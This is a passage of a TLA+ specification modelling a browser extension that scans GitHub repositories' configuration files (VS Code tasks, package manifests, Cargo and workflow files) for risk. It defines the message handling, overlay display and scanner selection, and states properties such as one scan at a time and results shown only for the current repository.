                    reply |-> [type |-> "STATUS", isScanning |-> isScanning,
                               lastScan |-> lastScanResult]])
    /\ UNCHANGED <<isScanning, lastScanResult, localStore, syncConfig, findingsArrays,
                   aggOp, aggOut, scanVars, contentVars, textVars>>

MessagesNext ==
    \/ \E repository \in HandlerRepositories, fileTree \in HandlerTrees :
           ReceiveScan(repository, fileTree)
    \/ \E c \in 1..Len(calls) : DefaultBranchResolved(c)
    \/ \E c \in 1..Len(calls) : SetLastScanOfEmptyResolved(c)
    \/ \E c \in 1..Len(calls) : FetchResolved(c)
    \/ \E c \in 1..Len(calls) : SetLastScanResolved(c)
    \/ \E c \in 1..Len(calls) : CacheGetResolved(c)
    \/ \E c \in 1..Len(calls) : CacheSetResolved(c)
    \/ ReceiveClearCache
    \/ \E c \in 1..Len(calls) : ClearCacheResolved(c)
    \/ handleGetStatus

SpecMessages == Init /\ [][MessagesNext]_vars

\* the positions of a scan between its acceptance and its return
ScanningPcs ==
    {"awaitDefaultBranch", "awaitSetLastScanOfEmpty", "awaitFetch", "awaitSetLastScan",
     "awaitCacheGet", "awaitCacheSet"}

IsScanCall(call) == call.pc \in ScanningPcs \cup {"done"}

Running == {c \in 1..Len(calls) : calls[c].pc \in ScanningPcs}

Rejected(call) ==
    /\ call.pc = "done"
    /\ call.reply = [type |-> "ERROR", error |-> "Scan already in progress"]

\* C24: at most one scan runs at a time and isScanning is set exactly while
\* one runs; a SCAN_REPOSITORY that arrives while a scan is running is
\* answered with the error 'Scan already in progress', starts no fetch and
\* no scan, and leaves isScanning, lastScanResult and the stored last scan
\* and cache as they were.
C24_OneScanAtATime ==
    /\ [](Cardinality(Running) <= 1 /\ (isScanning <=> Running # {}))
    /\ [][(Len(calls') = Len(calls) + 1 /\ IsScanCall(calls'[Len(calls')]) /\ Running # {})
              => /\ Rejected(calls'[Len(calls')])
                 /\ calls'[Len(calls')].filesToScan = <<>>
                 /\ calls'[Len(calls')].files = <<>>
                 /\ calls'[Len(calls')].result = NoResult
                 /\ Running' = Running
                 /\ isScanning' /\ isScanning
                 /\ lastScanResult' = lastScanResult
                 /\ localStore' = localStore]_vars

\* a request was rejected while the scan before it waits for its files
C24_Witness ==
    /\ Len(calls) = 2
    /\ calls[1].pc = "awaitFetch"
    /\ Rejected(calls[2])
    /\ isScanning

\* the CLEAR_CACHE calls that are answered and after which no SCAN_REPOSITORY
\* has arrived
ClearedSince ==
    {c \in 1..Len(calls) :
        /\ calls[c].pc = "cleared"
        /\ \A d \in (c + 1)..Len(calls) : ~IsScanCall(calls[d])}

\* C25 as stated: once CLEAR_CACHE is answered, and until a SCAN_REPOSITORY
\* arrives after it, GET_STATUS reports no last scan and the storage holds
\* neither a last scan nor a cached scan, whatever scans are in flight; and
\* the isScanning of the reply to CLEAR_CACHE is the flag at that moment.
C25_ClearedStaysCleared ==
    /\ [](ClearedSince # {} =>
              /\ lastScanResult = NoResult
              /\ localStore.lastScan = NoResult
              /\ localStore.cache = <<>>)
    /\ [][\A c \in 1..Len(calls) :
              (calls[c].pc = "awaitClearCache" /\ calls'[c].pc = "cleared")
                  => calls'[c].reply.isScanning = isScanning']_vars

\* the steps by which an accepted scan goes on: each awaited promise settles
\* (a fetch with a response or an error, a storage call with its callback)
ScanContinues ==
    \E c \in 1..Len(calls) :
        \/ DefaultBranchResolved(c)
        \/ SetLastScanOfEmptyResolved(c)
        \/ FetchResolved(c)
        \/ SetLastScanResolved(c)
        \/ CacheGetResolved(c)
        \/ CacheSetResolved(c)

SpecMessagesLive == Init /\ [][MessagesNext]_vars /\ WF_vars(ScanContinues)

\* C27: every accepted scan request returns (with a result, with the result
\* of the empty file list, or with an error) and the in-progress flag is
\* cleared with it, so isScanning, which GET_STATUS reports, eventually is
\* false; a request that arrives when no scan is running is never rejected.
C27_FlagEventuallyCleared ==
    /\ isScanning ~> ~isScanning
    /\ \A c \in 1..MaxCalls :
           (c <= Len(calls) /\ calls[c].pc \in ScanningPcs)
               ~> (/\ c <= Len(calls)
                   /\ calls[c].pc = "done"
                   /\ calls[c].reply.type \in {"SCAN_RESULT", "ERROR"}
                   /\ ~Rejected(calls[c])
                   /\ ~isScanning)
    /\ [][(Len(calls') = Len(calls) + 1 /\ IsScanCall(calls'[Len(calls')]) /\ Running = {})
              => (~Rejected(calls'[Len(calls')]) /\ ~isScanning)]_vars

\* a scan has returned its result and the request after it was accepted
C27_Witness ==
    /\ Len(calls) = 2
    /\ calls[1].pc = "done"
    /\ calls[1].reply.type = "SCAN_RESULT"
    /\ calls[2].pc \in ScanningPcs
    /\ isScanning

(***************************************************************************)
(* The content script (content/index.ts) with the background handler.      *)
(* A SCAN_REPOSITORY message that the content script sent is received by   *)
(* the handler later, in the order of sending; the response is handled by  *)
(* the content script when the handler has returned.  Navigation, timers   *)
(* and responses interleave freely.                                        *)
(***************************************************************************)
backgroundVars == <<handlerVars, aggVars, scanVars, textVars>>

\* the pages of the two repositories and a page that is no repository
Pages == {r.url : r \in HandlerRepositories} \cup {"https://github.com/"}

\* parseGitHubUrl, null for a page that is no repository
parseGitHubUrl(url) ==
    IF \E r \in HandlerRepositories : r.url = url
    THEN CHOOSE r \in HandlerRepositories : r.url = url
    ELSE NoResult

\* the file trees that the page or the API gives
ContentTrees == {<<>>, <<README>>, <<NPM_PACKAGE>>}

\* fetchFileTreeAndScan: criticalPatterns
CriticalPatterns ==
    { <<".vscode", "/">>, <<"package.json">>, <<"setup.py">>, <<"pyproject", ".toml">>,
      <<"Cargo", ".toml">>, <<".cargo", "/">>, <<".github", "/", "workflows", "/">> }

\* pattern.replace('/', ''): the first slash removed
RECURSIVE ReplaceFirstSlash(_)
ReplaceFirstSlash(pattern) ==
    IF pattern = <<>> THEN <<>>
    ELSE IF pattern[1] = "/" THEN Tail(pattern)
    ELSE <<pattern[1]>> \o ReplaceFirstSlash(Tail(pattern))

hasCriticalFiles(files) ==
    \E i \in 1..Len(files) : \E pattern \in CriticalPatterns :
        \/ files[i] = pattern
        \/ StartsWith(files[i], pattern)
        \/ EndsWith(files[i], ReplaceFirstSlash(pattern))

SameRepo(a, b) == a.owner = b.owner /\ a.repo = b.repo

\* handleUrlChange
handleUrlChange(url) ==
    /\ LET repoInfo == parseGitHubUrl(url) IN
       IF repoInfo = NoResult
       THEN /\ overlay' = [state |-> "hidden"]
            /\ currentRepo' = NoResult
            /\ UNCHANGED <<contentLastScanResult, scanTimers>>
       ELSE /\ currentRepo' = repoInfo
            /\ IF currentRepo = NoResult \/ ~SameRepo(currentRepo, repoInfo)
               THEN /\ scanTimers < MaxPending
                    /\ contentLastScanResult' = NoResult
                    /\ scanTimers' = scanTimers + 1
               ELSE UNCHANGED <<contentLastScanResult, scanTimers>>
            /\ UNCHANGED overlay
    /\ UNCHANGED <<minimizeTimers, treeRequests, sent, handled, backgroundVars>>

\* triggerScanWithFileTree up to its await: showLoading and the message
triggerScanWithFileTree(fileTree) ==
    IF currentRepo = NoResult \/ fileTree = <<>>
    THEN UNCHANGED <<overlay, sent>>
    ELSE /\ Len(sent) < MaxCalls
         /\ overlay' = [state |-> "loading"]
         /\ sent' = Append(sent, [repository |-> currentRepo, fileTree |-> fileTree])

\* triggerScan up to its await: the file tree of the page, or a request for it
triggerScan ==
    IF currentRepo = NoResult
    THEN UNCHANGED <<overlay, sent, treeRequests>>
    ELSE \E fileTree \in ContentTrees :
             IF fileTree = <<>>
             THEN /\ Cardinality(treeRequests) < MaxPending
                  /\ treeRequests' = treeRequests \cup
                        {[repository |-> currentRepo, caller |-> "triggerScan"]}
                  /\ UNCHANGED <<overlay, sent>>
             ELSE /\ triggerScanWithFileTree(fileTree)
                  /\ UNCHANGED treeRequests

\* fetchFileTreeAndScan up to its await
fetchFileTreeAndScan ==
    IF currentRepo = NoResult
    THEN UNCHANGED <<overlay, sent, treeRequests>>
    ELSE /\ Cardinality(treeRequests) < MaxPending
         /\ treeRequests' = treeRequests \cup
               {[repository |-> currentRepo, caller |-> "fetchFileTreeAndScan"]}
         /\ UNCHANGED <<overlay, sent>>

\* the timer of handleUrlChange fires, 500 ms after a change of repository
ScanTimerFires ==
    /\ scanTimers > 0
    /\ scanTimers' = scanTimers - 1
    /\ \E criticalFilesPresent \in BOOLEAN :
           IF criticalFilesPresent THEN triggerScan ELSE fetchFileTreeAndScan
    /\ UNCHANGED <<currentRepo, contentLastScanResult, minimizeTimers, handled,
                   backgroundVars>>

\* the TRIGGER_SCAN message of the background
TriggerScanMessage ==
    /\ triggerScan
    /\ UNCHANGED <<currentRepo, contentLastScanResult, scanTimers, minimizeTimers, handled,
                   backgroundVars>>

\* the response to GET_FILE_TREE arrives: FILE_TREE with files, or ERROR
FileTreeArrives(request) ==
    /\ request \in treeRequests
    /\ \E response \in {[type |-> "ERROR"]}
                          \cup {[type |-> "FILE_TREE", files |-> files] : files \in ContentTrees} :
           /\ IF request.caller = "triggerScan"
              THEN triggerScanWithFileTree(IF response.type = "FILE_TREE"
                                           THEN response.files ELSE <<>>)
              ELSE IF /\ response.type = "FILE_TREE"
                      /\ Len(response.files) > 0
                      /\ hasCriticalFiles(response.files)
                   THEN triggerScanWithFileTree(response.files)
                   ELSE UNCHANGED <<overlay, sent>>
    /\ treeRequests' = treeRequests \ {request}
    /\ UNCHANGED <<currentRepo, contentLastScanResult, scanTimers, minimizeTimers, handled,
                   backgroundVars>>

\* the response to SCAN_REPOSITORY arrives
ScanResponseArrives(c) ==
    /\ c \notin handled
    /\ calls[c].pc = "done"
    /\ handled' = handled \cup {c}
    /\ IF calls[c].reply.type = "SCAN_RESULT"
       THEN /\ contentLastScanResult' = calls[c].reply.result
            /\ overlay' = [state |-> "results", result |-> calls[c].reply.result]
            /\ minimizeTimers' =
                   IF calls[c].reply.result.overallRisk = GREEN
                   THEN minimizeTimers \cup {calls[c].reply.result}
                   ELSE minimizeTimers
       ELSE /\ overlay' = [state |-> "hidden"]
            /\ UNCHANGED <<contentLastScanResult, minimizeTimers>>
    /\ UNCHANGED <<currentRepo, scanTimers, treeRequests, sent, backgroundVars>>

\* the timer of a GREEN result fires, 3 s after it was shown
MinimizeTimerFires(result) ==
    /\ result \in minimizeTimers
    /\ minimizeTimers' = minimizeTimers \ {result}
    /\ overlay' = [state |-> "minimized", result |-> result]
    /\ UNCHANGED <<currentRepo, contentLastScanResult, scanTimers, treeRequests, sent,
                   handled, backgroundVars>>

ContentNext ==
    \/ \E url \in Pages : handleUrlChange(url)
    \/ ScanTimerFires
    \/ TriggerScanMessage
    \/ \E request \in treeRequests : FileTreeArrives(request)
    \/ \E k \in {Len(calls) + 1} \cap (1..Len(sent)) :
           ReceiveScan(sent[k].repository, sent[k].fileTree)
    \/ \E c \in 1..Len(calls) : DefaultBranchResolved(c)
    \/ \E c \in 1..Len(calls) : SetLastScanOfEmptyResolved(c)
    \/ \E c \in 1..Len(calls) : FetchResolved(c)
    \/ \E c \in 1..Len(calls) : SetLastScanResolved(c)
    \/ \E c \in 1..Len(calls) : CacheGetResolved(c)
    \/ \E c \in 1..Len(calls) : CacheSetResolved(c)
    \/ \E c \in 1..Len(calls) : ScanResponseArrives(c)
    \/ \E result \in minimizeTimers : MinimizeTimerFires(result)

SpecContent == Init /\ [][ContentNext]_vars

BelongsToCurrentRepo(result) ==
    currentRepo # NoResult /\ SameRepo(result.repository, currentRepo)

\* C26 as stated: the result that the content script keeps in lastScanResult
\* always belongs to the repository that is current; a result is put on the
\* overlay only if it belongs to the repository current at that moment, so
\* the response for a repository is neither shown nor stored after the
\* navigation to another; and when the scan of a repository is answered with
\* an error the overlay is hidden.
C26_ResultOfCurrentRepo ==
    /\ [](contentLastScanResult # NoResult => BelongsToCurrentRepo(contentLastScanResult))
    /\ [][(overlay' # overlay /\ overlay'.state \in {"results", "minimized"})
              => BelongsToCurrentRepo(overlay.result)']_vars
    /\ [][\A c \in 1..Len(calls) :
              (c \notin handled /\ c \in handled' /\ calls[c].reply.type = "ERROR")
                  => overlay'.state = "hidden"]_vars

(***************************************************************************)
(* The classification of a path by getScannerType, on which scanFile       *)
(* switches, and the appliesTo of the scanner classes.                     *)
(***************************************************************************)
Scanners == {"vscode", "npm", "python", "rust", "github"}

appliesTo(scanner, filePath) ==
    CASE scanner = "vscode" ->
             \/ EndsWith(filePath, <<".vscode", "/", "tasks.json">>)
             \/ filePath = <<"tasks.json">>
      [] scanner = "npm" -> EndsWith(filePath, <<"package.json">>)
      [] scanner = "python" ->
             \/ EndsWith(filePath, <<"setup.py">>)
             \/ EndsWith(filePath, <<"pyproject", ".toml">>)
             \/ EndsWith(filePath, <<"setup.cfg">>)
      [] scanner = "rust" ->
             \/ EndsWith(filePath, <<"Cargo", ".toml">>)
             \/ EndsWith(filePath, <<".cargo", "/", "config", ".toml">>)
             \/ EndsWith(filePath, <<".cargo", "/", "config">>)
      [] scanner = "github" ->
             /\ Includes(filePath, <<".github", "/", "workflows", "/">>)
             /\ (EndsWith(filePath, <<".yml">>) \/ EndsWith(filePath, <<".yaml">>))

PathDirs ==
    { <<"src", "/">>, <<".vscode", "/">>, <<".cargo", "/">>, <<".github", "/">>,
      <<"workflows", "/">> }

PathFiles ==
    { <<"tasks.json">>, <<"my", "tasks.json">>, <<"package.json">>, <<"setup.py">>,
      <<"setup.cfg">>, <<"pyproject", ".toml">>, <<"Cargo", ".toml">>, <<"config">>,
      <<"config", ".toml">>, <<"config", ".json">>, <<"ci", ".yml">>, <<"ci", ".yaml">>,
      <<"README", ".md">> }

Paths == {Flatten(dirs) \o file : dirs \in SeqsUpTo(PathDirs, MaxDirs), file \in PathFiles}

PathsInit == TextOnly /\ textIn \in Paths

\* scanFile selects the scanner of a path
SelectScanner ==
    /\ textOp = "input"
    /\ textOp' = "getScannerType"
    /\ textOut' = [scannerType |-> getScannerType(textIn),
                   appliesTo |-> [scanner \in Scanners |-> appliesTo(scanner, textIn)]]
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

PathsNext == SelectScanner

SpecPaths == PathsInit /\ [][PathsNext]_vars

\* C28 as stated: for every path, scanFile runs the scanner whose appliesTo
\* is true of the path (root-level tasks.json and setup.cfg included), and
\* the appliesTo of the scanner that getScannerType selects is true.
C28_ClassificationAgrees ==
    textOp = "getScannerType" =>
        \A scanner \in Scanners :
            textOut.appliesTo[scanner] <=> textOut.scannerType = scanner

(***************************************************************************)
(* The files that the handler asks for, for a repository whose files are   *)
(* all clean: getFilesToScan, the fetch of each path, which finds the      *)
(* paths of the tree and no other, and scanRepository.                     *)
(***************************************************************************)
TreePaths ==
    { README, VSCODE_DIR, VSCODE_TASKS, <<".vscode", "/", "settings.json">>, NPM_PACKAGE,
      CARGO_DIR, RUST_CARGO, RUST_CARGO_CONFIG }

\* the file trees: no path twice
FileTrees ==
    {fileTree \in SeqsUpTo(TreePaths, MaxTreeLen) :
        \A i, j \in 1..Len(fileTree) : fileTree[i] = fileTree[j] => i = j}

InTree(fileTree, path) == \E i \in 1..Len(fileTree) : fileTree[i] = path

\* the text of a clean file, by the scanner of the path
CleanText(path) ==
    CASE getScannerType(path) = "vscode" -> TasksClean
      [] getScannerType(path) = "npm" -> PackageClean
      [] OTHER -> CargoConfigClean

\* fetchMultipleFiles on a repository that holds the files of the tree
FetchFromTree(fileTree, paths) ==
    [i \in 1..Len(paths) |->
        IF InTree(fileTree, paths[i]) THEN FetchedFile(paths[i], CleanText(paths[i]))
        ELSE MissingFile(paths[i])]

FilesInit == TextOnly /\ textIn \in FileTrees

\* handleScanRepository from getFilesToScan to scanRepository
ScanCleanRepository ==
    /\ textOp = "input"
    /\ textOp' = "getFilesToScan"
    /\ \E filesToScan \in {getFilesToScan(textIn)} :
           textOut' = [filesToScan |-> filesToScan,
                       scan |-> IF Len(filesToScan) = 0
                                THEN Ok(EmptyScanResult(CHOOSE r \in HandlerRepositories :
                                                            r.repo = "r"))
                                ELSE scanRepository(FetchFromTree(textIn, filesToScan),
                                         CHOOSE r \in HandlerRepositories : r.repo = "r",
                                         <<>>)]
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

FilesNext == ScanCleanRepository

SpecFiles == FilesInit /\ [][FilesNext]_vars

\* C30 as stated: getFilesToScan returns only paths that are elements of the
\* file tree it is given; hence the result of a repository whose existing
\* critical files were all fetched and are clean carries no 'partial scan'
\* or 'scan incomplete' finding.
C30_OnlyPathsOfTheTree ==
    textOp = "getFilesToScan" =>
        /\ \A i \in 1..Len(textOut.filesToScan) : InTree(textIn, textOut.filesToScan[i])
        /\ ~textOut.scan.threw
        /\ \A k \in 1..Len(textOut.scan.value.findings) :
               textOut.scan.value.findings[k].category # CAT_FETCH_ERROR

=============================================================================
